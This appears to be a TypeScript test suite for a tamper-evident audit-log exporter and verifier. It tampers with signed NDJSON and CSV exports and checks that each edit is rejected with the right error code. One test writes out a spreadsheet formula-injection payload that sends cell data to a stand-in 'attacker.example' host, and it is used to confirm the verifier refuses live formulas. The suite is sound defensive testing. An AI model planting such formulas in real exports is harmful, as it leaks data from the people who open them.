/**
 * A tampered export is rejected at the right place, with the right code, in both formats: an
 * event's record changed, an event removed, inserted from outside the slice or moved, its index
 * or proof changed, a checkpoint changed, swapped for an older genuine one or re-signed by
 * another key, the trailer cut or its counts edited, the file cut mid-line, and (CSV) a
 * readable column that no longer says what the record says.
 *
 * The log is a real one on disk with two streams (as two worker processes write), written by
 * the real AuditLog; the exports are written by the real exporter; the tampering edits the files.
 */
import { after, before, describe, test } from 'node:test'
import assert from 'node:assert/strict'
import { createWriteStream, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { pipeline } from 'node:stream/promises'
import { parse as parseCsv } from 'csv-parse/sync'
import { stringify as stringifyCsv } from 'csv-stringify/sync'
import { AuditLog } from '../../src/audit/log/writer.js'
import { AuditDirReader } from '../../src/audit/log/reader.js'
import { generateCheckpointKey, parseCheckpoint, signCheckpoint } from '../../src/audit/log/checkpoint.js'
import { exportReadable } from '../../src/audit/export/write.js'
import { verifyExport, type ExportProblemCode } from '../../src/audit/export/verify.js'
import { CSV_COLUMNS, escapeFormula, unescapeFormula, type ExportFormat } from '../../src/audit/export/format.js'
import type { ExportFilters } from '../../src/audit/export/filter.js'
import { main } from '../../src/cli/main.js'
import { captureIo } from '../helpers/io.js'
import { logOptions, tempAuditDir } from '../helpers/audit.js'

const SPIFFE = ['spiffe://example.org/ns/shop/sa/frontend', 'spiffe://example.org/ns/shop/sa/backend']

function decisionEvent (i: number, t0: number): string {
  const outcome = i % 3 === 0 ? 'deny' : 'allow'
  return JSON.stringify({
    labels: { id: 'test', version: '0.1.0', hostname: 'h' },
    decision_id: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
    bundles: { authz: { revision: 'r1' } },
    path: 'authz/allow',
    input: { service: 'orders', note: i === 5 ? '=HYPERLINK("x")' : 'ok' },
    result: outcome === 'allow',
    timestamp: new Date(t0 + i * 1000).toISOString(),
    identity: { type: 'jwt_svid', spiffe_id: SPIFFE[i % 2] },
    cached: false,
    transport: 'http',
    outcome,
  })
}

describe('a tampered export is rejected at the right place', () => {
  const { dir, cleanup } = tempAuditDir()
  const key = generateCheckpointKey()
  const files: Record<string, string> = {}
  let older: string // an older genuine checkpoint note of stream main

  before(async () => {
    writeFileSync(join(dir, 'key.pem'), key.privateKeyPem, { mode: 0o600 })
    const t0 = Date.parse('2026-11-30T10:00:00Z')
    for (const [stream, n] of [['w1', 40], ['w2', 17]] as const) {
      const log = await AuditLog.open(logOptions(dir, { stream, durability: 'sync', checkpoint: { everyEvents: 7, everyMs: 600_000, keyFile: join(dir, 'key.pem') } }))
      for (let i = 0; i < n; i++) await log.append(decisionEvent(i, t0))
      await log.close()
    }
    const reader = await AuditDirReader.open(dir)
    older = (await reader.stream('w1').checkpoints())[1]?.note as string
    reader.close()
    const write = async (name: string, format: ExportFormat, filters: ExportFilters): Promise<void> => {
      const { readable } = await exportReadable(dir, { filters, format })
      files[name] = join(dir, `${name}.${format}`)
      await pipeline(readable, createWriteStream(files[name] as string))
    }
    for (const format of ['ndjson', 'csv'] as const) {
      await write(`all-${format}`, format, {})
      await write(`deny-${format}`, format, { outcome: ['deny'] })
    }
  })
  after(() => { cleanup() })

  const verify = async (file: string): Promise<Awaited<ReturnType<typeof verifyExport>>> => await verifyExport(file, key.publicKeyPem)

  test('the untampered exports verify, over both streams, and hold what was asked', async () => {
    for (const format of ['ndjson', 'csv']) {
      const all = await verify(files[`all-${format}`] as string)
      assert.equal(all.ok, true, JSON.stringify(all.problem))
      assert.deepEqual(all.streams.map((s) => [s.stream, s.events, s.size]), [['w1', 40, 40], ['w2', 17, 17]])
      const deny = await verify(files[`deny-${format}`] as string)
      assert.equal(deny.ok, true)
      assert.equal(deny.events, 14 + 6)
    }
  })

  // --- NDJSON: tamper line by line ---
  type Item = Record<string, unknown>
  const lines = (name: string): Item[] => readFileSync(files[name] as string, 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as Item)
  let n = 0
  const writeLines = (items: Array<Item | string>): string => {
    const file = join(dir, `tampered-${n++}.ndjson`)
    writeFileSync(file, items.map((i) => typeof i === 'string' ? i : JSON.stringify(i)).join('\n') + '\n')
    return file
  }
  async function rejects (file: string, code: ExportProblemCode, line: number, where: { stream?: string, index?: number } = {}): Promise<void> {
    const r = await verify(file)
    assert.equal(r.ok, false)
    assert.equal(r.problem?.code, code, JSON.stringify(r.problem))
    assert.equal(r.problem?.line, line, JSON.stringify(r.problem))
    if (where.stream !== undefined) assert.equal(r.problem?.stream, where.stream)
    if (where.index !== undefined) assert.equal(r.problem?.index, where.index)
  }

  test('ndjson: an event\'s record changed', async () => {
    const items = lines('deny-ndjson')
    const ev = items[3] as Item
    ev.record = (ev.record as string).replace('"outcome":"deny"', '"outcome":"allow"').replace('"result":false', '"result":true')
    await rejects(writeLines(items), 'EVENT_PROOF_INVALID', 4, { stream: 'w1', index: ev.index as number })
  })

  test('ndjson: an event removed, also with the trailer\'s total edited to match', async () => {
    const items = lines('deny-ndjson')
    items.splice(5, 1)
    await rejects(writeLines(items), 'TRAILER_COUNT_MISMATCH', items.length, { stream: 'w1' })
    const trailer = items[items.length - 1] as Item
    trailer.events = (trailer.events as number) - 1
    await rejects(writeLines(items), 'TRAILER_COUNT_MISMATCH', items.length, { stream: 'w1' })
  })

  test('ndjson: an event from outside the slice inserted (a genuine one, with its genuine proof)', async () => {
    const items = lines('deny-ndjson')
    const allow = lines('all-ndjson').find((i) => i.type === 'event' && i.stream === 'w1' && i.index === 1) as Item
    items.splice(2, 0, allow) // between index 0 and index 3: in order, genuinely in the log, but an allow
    await rejects(writeLines(items), 'EVENT_FILTER_MISMATCH', 3, { stream: 'w1', index: 1 })
  })

  test('ndjson: events reordered, moved to another stream, or duplicated', async () => {
    const items = lines('deny-ndjson')
    const swapped = [...items]
    ;[swapped[2], swapped[3]] = [swapped[3] as Item, swapped[2] as Item]
    await rejects(writeLines(swapped), 'EVENT_OUT_OF_ORDER', 4, { stream: 'w1' })
    const dup = [...items]
    dup.splice(3, 0, items[2] as Item)
    await rejects(writeLines(dup), 'EVENT_OUT_OF_ORDER', 4, { stream: 'w1' })
    const moved = items.map((i) => ({ ...i }))
    const last = moved.length - 2 // the last event (of w2)
    ;(moved[last] as Item).stream = 'w1'
    await rejects(writeLines(moved), 'EVENT_OUT_OF_ORDER', last + 1)
    const unknown = items.map((i) => ({ ...i }))
    ;(unknown[1] as Item).stream = 'w9'
    await rejects(writeLines(unknown), 'EVENT_STREAM_UNKNOWN', 2, { stream: 'w9' })
  })

  test('ndjson: an event\'s index or proof changed', async () => {
    const items = lines('deny-ndjson')
    const idx = items.map((i) => ({ ...i }))
    ;(idx[2] as Item).index = ((idx[2] as Item).index as number) + 1
    await rejects(writeLines(idx), 'EVENT_INDEX_MISMATCH', 3, { stream: 'w1' })
    const proof = items.map((i) => ({ ...i }))
    const p = [...((proof[2] as Item).inclusion_proof as string[])]
    p[0] = (items[3] as Item & { inclusion_proof: string[] }).inclusion_proof[0] as string
    ;(proof[2] as Item).inclusion_proof = p
    await rejects(writeLines(proof), 'EVENT_PROOF_INVALID', 3, { stream: 'w1', index: (items[2] as Item).index as number })
    const short = items.map((i) => ({ ...i }))
    ;(short[2] as Item).inclusion_proof = ((items[2] as Item).inclusion_proof as string[]).slice(1)
    await rejects(writeLines(short), 'EVENT_PROOF_INVALID', 3)
    const garbage = items.map((i) => ({ ...i }))
    ;(garbage[2] as Item).inclusion_proof = ['not base64!']
    await rejects(writeLines(garbage), 'EVENT_PROOF_INVALID', 3)
    const beyond = items.map((i) => ({ ...i }))
    ;(beyond[2] as Item).index = 40
    await rejects(writeLines(beyond), 'EVENT_BEYOND_CHECKPOINT', 3)
  })

  test('ndjson: a checkpoint changed, replaced by an older genuine one, or re-signed by another key', async () => {
    const items = lines('deny-ndjson')
    const header = (): Item & { streams: Array<Record<string, unknown>> } => JSON.parse(JSON.stringify(items[0])) as Item & { streams: Array<Record<string, unknown>> }
    // the signed size changed (the parsed fields kept in step): the signature no longer holds
    const h1 = header()
    const s1 = h1.streams[0] as Record<string, unknown>
    s1.note = (s1.note as string).replace(/\n40\n/, '\n41\n')
    s1.size = 41
    await rejects(writeLines([h1, ...items.slice(1)]), 'CHECKPOINT_SIGNATURE_INVALID', 1, { stream: 'w1' })
    // the readable fields no longer match the signed note
    const h2 = header()
    ;(h2.streams[0] as Record<string, unknown>).size = 39
    await rejects(writeLines([h2, ...items.slice(1)]), 'CHECKPOINT_MALFORMED', 1, { stream: 'w1' })
    // an older, genuinely signed checkpoint: the proofs are not against its root
    const h3 = header()
    const old = parseCheckpoint(older)
    h3.streams[0] = { stream: 'w1', origin: old.origin, size: old.size, root: old.root.toString('base64'), note: older }
    await rejects(writeLines([h3, ...items.slice(1)]), 'EVENT_PROOF_INVALID', 2, { stream: 'w1', index: 0 })
    // a rewritten history signed by a key that is not the pinned one
    const attacker = generateCheckpointKey()
    const h4 = header()
    const cp = parseCheckpoint((h4.streams[0] as Record<string, unknown>).note as string)
    ;(h4.streams[0] as Record<string, unknown>).note = signCheckpoint(cp.body, attacker.privateKeyPem, cp.origin.replace(/[\s+]/g, '_'))
    await rejects(writeLines([h4, ...items.slice(1)]), 'CHECKPOINT_SIGNATURE_INVALID', 1, { stream: 'w1' })
    // and the genuine export against a key the auditor did not pin
    const r = await verifyExport(files['deny-ndjson'] as string, attacker.publicKeyPem)
    assert.equal(r.problem?.code, 'CHECKPOINT_SIGNATURE_INVALID')
  })

  test('ndjson: the trailer cut, the file cut mid-line, or the header missing', async () => {
    const items = lines('deny-ndjson')
    await rejects(writeLines(items.slice(0, -1)), 'EXPORT_TRUNCATED', items.length - 1)
    const text = readFileSync(files['deny-ndjson'] as string, 'utf8')
    const cut = join(dir, 'cut.ndjson')
    writeFileSync(cut, text.slice(0, text.length - 20))
    await rejects(cut, 'EXPORT_TRUNCATED', items.length)
    await rejects(writeLines(items.slice(1)), 'EXPORT_MALFORMED', 1)
    const versioned = JSON.parse(JSON.stringify(items[0])) as Item
    versioned.version = 2
    await rejects(writeLines([versioned, ...items.slice(1)]), 'EXPORT_VERSION_UNSUPPORTED', 1)
    await rejects(writeLines([...items, items[1] as Item]), 'EXPORT_MALFORMED', items.length + 1)
  })

  test('ndjson: the export\'s filters narrowed after the fact', async () => {
    const items = lines('all-ndjson')
    const h = JSON.parse(JSON.stringify(items[0])) as Item
    h.filters = { outcome: ['deny'] }
    // the first event (index 0) is a deny; index 1 is an allow
    await rejects(writeLines([h, ...items.slice(1)]), 'EVENT_FILTER_MISMATCH', 3, { stream: 'w1', index: 1 })
  })

  // --- CSV: tamper through a CSV library, as someone with a spreadsheet would ---
  const rows = (name: string): string[][] => parseCsv(readFileSync(files[name] as string)) as string[][]
  const writeRows = (r: string[][]): string => {
    const file = join(dir, `tampered-${n++}.csv`)
    writeFileSync(file, stringifyCsv(r, { record_delimiter: 'unix' }))
    return file
  }
  const col = (c: (typeof CSV_COLUMNS)[number]): number => CSV_COLUMNS.indexOf(c)

  test('csv: a readable column that no longer says what the record says', async () => {
    const r = rows('deny-csv')
    assert.deepEqual(r[0], [...CSV_COLUMNS])
    ;(r[3] as string[])[col('outcome')] = 'allow'
    await rejects(writeRows(r), 'EVENT_COLUMN_MISMATCH', 4, { stream: 'w1' })
    const s = rows('deny-csv')
    ;(s[3] as string[])[col('spiffe_id')] = SPIFFE[0] === (s[3] as string[])[col('spiffe_id')] ? SPIFFE[1] as string : SPIFFE[0] as string
    await rejects(writeRows(s), 'EVENT_COLUMN_MISMATCH', 4)
  })

  test('csv: a record, a proof, a row, the trailer or the file\'s end changed', async () => {
    const r = rows('deny-csv')
    ;(r[3] as string[])[col('record')] = ((r[3] as string[])[col('record')] as string).replace('"result":false', '"result":true')
    await rejects(writeRows(r), 'EVENT_PROOF_INVALID', 4, { stream: 'w1' })
    const p = rows('deny-csv')
    const proof = ((p[3] as string[])[col('inclusion_proof')] as string).split(' ')
    ;(p[3] as string[])[col('inclusion_proof')] = proof.reverse().join(' ')
    await rejects(writeRows(p), 'EVENT_PROOF_INVALID', 4)
    const removed = rows('deny-csv')
    removed.splice(4, 1)
    await rejects(writeRows(removed), 'TRAILER_COUNT_MISMATCH', removed.length)
    const noTrailer = rows('deny-csv').slice(0, -1)
    await rejects(writeRows(noTrailer), 'EXPORT_TRUNCATED', noTrailer.length)
    const text = readFileSync(files['deny-csv'] as string, 'utf8')
    const cut = join(dir, 'cut.csv')
    writeFileSync(cut, text.slice(0, text.length - 30)) // inside the trailer row's quoted JSON
    await rejects(cut, 'EXPORT_TRUNCATED', rows('deny-csv').length)
    const lastEvent = text.lastIndexOf('\ntrailer,')
    writeFileSync(cut, text.slice(0, lastEvent - 10)) // inside the last event's proof cell
    await rejects(cut, 'EXPORT_TRUNCATED', rows('deny-csv').length - 1)
    const h = rows('deny-csv')
    const header = JSON.parse((h[1] as string[])[col('record')] as string) as { streams: Array<{ note: string }> }
    ;(header.streams[0] as { note: string }).note = older
    ;(h[1] as string[])[col('record')] = JSON.stringify(header)
    await rejects(writeRows(h), 'CHECKPOINT_MALFORMED', 2) // the readable size no longer matches the note
  })

  test('csv: cells a spreadsheet would run as formulas are escaped as csv-stringify does, and proofs unescaped', async () => {
    // base64 proof hashes can start with '+': the exporter's CSV library escapes them, the verifier undoes it
    const out = stringifyCsv([['+abc', '=1+1', "'+x", '{"a":1}']], { escape_formulas: true })
    const cells = (parseCsv(out) as string[][])[0] as string[]
    assert.deepEqual(cells, ["'+abc", "'=1+1", "'+x", '{"a":1}'])
    assert.equal(escapeFormula('+abc'), cells[0])
    assert.equal(escapeFormula("'+x"), cells[2]) // a value that already starts with a quote is left alone
    assert.equal(unescapeFormula(cells[0] as string), '+abc')
    assert.equal((await verify(files['all-csv'] as string)).ok, true)
  })

  test('csv: no live formula passes — the stream must be a stream id named by its signed origin, header and trailer rows hold only kind and record', async () => {
    const formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
    const rename = (to: string): string[][] => {
      const r = rows('deny-csv')
      for (const row of r.slice(1)) {
        if (row[0] === 'header') {
          const h = JSON.parse(row[col('record')] as string) as { streams: Array<{ stream: string }> }
          ;(h.streams[0] as { stream: string }).stream = to
          row[col('record')] = JSON.stringify(h)
        } else if (row[0] === 'trailer') {
          const t = JSON.parse(row[col('record')] as string) as { streams: Record<string, number> }
          t.streams = { [to]: t.streams.w1 as number, w2: t.streams.w2 as number }
          row[col('record')] = JSON.stringify(t)
        } else if (row[col('stream')] === 'w1') {
          row[col('stream')] = to
        }
      }
      return r
    }
    await rejects(writeRows(rename(formula)), 'CHECKPOINT_MALFORMED', 2)
    // a valid stream id that is not the one the signed origin names
    await rejects(writeRows(rename('w3')), 'CHECKPOINT_ORIGIN_MISMATCH', 2, { stream: 'w3' })
    const h = rows('deny-csv')
    ;(h[1] as string[])[col('decision_id')] = '=1+1'
    await rejects(writeRows(h), 'EXPORT_MALFORMED', 2)
    const t = rows('deny-csv')
    ;(t[t.length - 1] as string[])[col('path')] = formula
    await rejects(writeRows(t), 'EXPORT_MALFORMED', t.length)
  })

  test('csv: a stream id starting with - is written escaped, verifies, and its unescaped (live) form does not', async (t) => {
    const own = tempAuditDir()
    t.after(own.cleanup)
    const log = await AuditLog.open(logOptions(own.dir, { stream: '-w', durability: 'sync', checkpoint: { everyEvents: 7, everyMs: 600_000, keyFile: join(dir, 'key.pem') } }))
    for (let i = 0; i < 5; i++) await log.append(decisionEvent(i, Date.parse('2026-11-30T10:00:00Z')))
    await log.close()
    const file = join(own.dir, 'minus.csv')
    await pipeline((await exportReadable(own.dir, { filters: {}, format: 'csv' })).readable, createWriteStream(file))
    const r = parseCsv(readFileSync(file)) as string[][]
    assert.equal((r[2] as string[])[col('stream')], "'-w")
    const ok = await verify(file)
    assert.equal(ok.ok, true, JSON.stringify(ok.problem))
    ;(r[2] as string[])[col('stream')] = '-w'
    await rejects(writeRows(r), 'EVENT_COLUMN_MISMATCH', 3, { stream: '-w', index: 0 })
  })

  test('the CLI names the problem, its line and position, and exits 1', async () => {
    const items = lines('deny-ndjson')
    const ev = items[3] as Item
    ev.record = (ev.record as string).replace('"outcome":"deny"', '"outcome":"allow"')
    const file = writeLines(items)
    const pub = join(dir, 'pub.pem')
    writeFileSync(pub, key.publicKeyPem)
    const io = captureIo()
    assert.equal(await main(['audit', 'verify', file, '--key', pub], io), 1)
    assert.match(io.out(), /^FAILED\n/)
    assert.match(io.out(), new RegExp(`EVENT_PROOF_INVALID at line 4, stream w1, index ${String(ev.index)}:`))
    const json = captureIo()
    assert.equal(await main(['audit', 'verify', file, '--key', pub, '--json'], json), 1)
    assert.equal((JSON.parse(json.out()) as { problem: { code: string } }).problem.code, 'EVENT_PROOF_INVALID')
  })
})

test('an export of a directory with deleted records is refused, not written as if complete; it proves against the largest checkpoint, not an older note appended last', async (t) => {
  const { dir, cleanup } = tempAuditDir()
  t.after(cleanup)
  const log = await AuditLog.open(logOptions(dir, { durability: 'sync', segmentMaxBytes: 1200, checkpoint: { everyEvents: 10, everyMs: 600_000 } }))
  for (let i = 0; i < 60; i++) await log.append(JSON.stringify({ decision_id: `d-${i}`, path: 'authz/allow', result: true, timestamp: new Date(Date.UTC(2026, 0, 1, 0, 0, i)).toISOString() }))
  await log.close()
  const { readdirSync, unlinkSync, appendFileSync } = await import('node:fs')
  const { splitCheckpointNotes } = await import('../../src/audit/log/checkpoint.js')
  const out = join(dir, '..', `${Math.random().toString(36).slice(2)}.ndjson`)
  t.after(() => { try { unlinkSync(out) } catch { /* none */ } })
  // an older genuine checkpoint appended after the latest: the export still proves against the largest
  const notes = splitCheckpointNotes(readFileSync(join(dir, 'main', 'checkpoints'), 'utf8')).notes
  appendFileSync(join(dir, 'main', 'checkpoints'), (notes[0] as { note: string }).note)
  let io = captureIo()
  assert.equal(await main(['audit', 'export', dir, '--format', 'ndjson', '--out', out], io), 0, io.err())
  const trailer = JSON.parse(readFileSync(out, 'utf8').trim().split('\n').at(-1) as string) as { events: number }
  assert.equal(trailer.events, 60)
  // a middle segment deleted (no retention record): refused
  const segs = readdirSync(join(dir, 'main', 'segments')).sort()
  assert.ok(segs.length >= 3)
  unlinkSync(join(dir, 'main', 'segments', segs[1] as string))
  io = captureIo()
  assert.notEqual(await main(['audit', 'export', dir, '--format', 'ndjson', '--out', out], io), 0)
  assert.match(io.err() + io.out(), /PORTCULLIS_AUDIT_INVALID/)
})
